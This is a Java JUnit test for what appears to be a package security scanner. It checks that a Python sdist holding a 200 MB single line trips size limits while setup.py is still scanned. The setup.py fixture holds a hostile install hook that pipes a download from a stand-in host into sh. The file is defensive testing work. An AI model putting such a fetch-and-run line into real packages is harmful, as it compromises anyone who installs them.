package dev.kingsnake;

import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.Rule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.SourceFile;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A Python file that is one 200 MB line of minified code: the archive is small (it compresses ~1000:1) but the
 * line is far over every per-file bound. The scan must end with a result, a diagnostic and the other file's
 * findings, whether the archive limits cut the entry (defaults) or the whole line is read (raised limits).
 */
class HugeLineTest {
    private static final int LINE_BYTES = 200 << 20;
    private static final String SETUP = "import os\nfrom setuptools import setup\n"
            + "os.system('curl -s http://payload.example.invalid/x | sh')\nsetup(name='demo', version='1.0')\n";
    private static final byte[] ARCHIVE = sdistWithHugeLine();

    /** Streams the 200 MB line into the compressor in chunks: the test never holds it uncompressed. */
    private static byte[] sdistWithHugeLine() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(bytes))) {
            tar.setBigNumberMode(TarArchiveOutputStream.BIGNUMBER_POSIX);
            byte[] setup = SETUP.getBytes(StandardCharsets.UTF_8);
            TarArchiveEntry s = new TarArchiveEntry("demo-1.0/setup.py");
            s.setSize(setup.length);
            tar.putArchiveEntry(s);
            tar.write(setup);
            tar.closeArchiveEntry();
            TarArchiveEntry big = new TarArchiveEntry("demo-1.0/demo/minified.py");
            big.setSize(LINE_BYTES);
            tar.putArchiveEntry(big);
            byte[] chunk = new byte[1 << 20];
            byte[] unit = "a=b+1;".getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < chunk.length; i++) {
                chunk[i] = unit[i % unit.length];
            }
            for (int written = 0; written < LINE_BYTES; written += chunk.length) {
                int n = Math.min(chunk.length, LINE_BYTES - written);
                if (written + n == LINE_BYTES) {
                    byte[] last = Arrays.copyOf(chunk, n);
                    last[n - 1] = '\n';
                    tar.write(last);
                } else {
                    tar.write(chunk, 0, n);
                }
            }
            tar.closeArchiveEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** Reports every Python file it is given: proves the small file is still scanned next to the huge one. */
    private static final Rule SEEN = new Rule() {
        @Override
        public RuleInfo info() {
            return new RuleInfo("KS-TEST-SEEN", "file seen", Severity.LOW, Confidence.LOW, Set.of(), "", "");
        }

        @Override
        public void check(RuleContext ctx, FindingSink sink) {
            for (SourceFile f : ctx.files()) {
                sink.report(Location.file(f, Reach.UNKNOWN), "seen", f.path());
            }
        }
    };

    private static Scanner scanner(Limits limits) {
        return Scanner.builder().limits(limits).rules(List.of(SEEN)).build();
    }

    private static ScanResult scan(Scanner scanner) {
        return assertTimeoutPreemptively(Duration.ofMinutes(3),
                () -> scanner.scan("demo-1.0.tar.gz", new ByteArrayInputStream(ARCHIVE)));
    }

    /** The real ratio (~700:1) is under the default 1000: the entry limit (64 MiB) is what cuts the kept line. */
    @Test
    void defaultLimitsCutTheEntryAndScanTheRest() {
        ScanResult r = scan(scanner(Limits.defaults()));
        assertTrue(r.diagnostics().stream().anyMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED
                && d.message().startsWith("maxEntryBytes")), r.diagnostics().toString());
        assertTrue(r.partial());
        assertNotEquals(Verdict.ERROR, r.verdict());
        assertTrue(r.stats().uncompressedBytes() >= LINE_BYTES, "the rest of the line is read through (hashed and"
                + " discarded), so the files behind it are reached: " + r.stats().uncompressedBytes());
        assertTrue(r.findings().stream().anyMatch(f -> f.file().endsWith("setup.py")), r.findings().toString());
    }

    @Test
    void raisedArchiveLimitsReadTheWholeLineWhichIsOnlyScannedAsText() {
        Limits limits = Limits.builder()
                .maxEntryBytes(256L << 20)
                .maxTotalBytes(512L << 20)
                .maxCompressionRatio(1_000_000)
                .packageTimeout(Duration.ofSeconds(90))
                .build();
        ScanResult r = scan(scanner(limits));
        assertNotEquals(Verdict.ERROR, r.verdict());
        assertEquals(2, r.stats().files());
        assertTrue(r.stats().uncompressedBytes() >= LINE_BYTES, "read " + r.stats().uncompressedBytes());
        assertTrue(r.diagnostics().stream().anyMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED
                && d.file().endsWith("minified.py")), r.diagnostics().toString());
        assertTrue(r.findings().stream().anyMatch(f -> f.file().endsWith("setup.py")), r.findings().toString());
    }
}
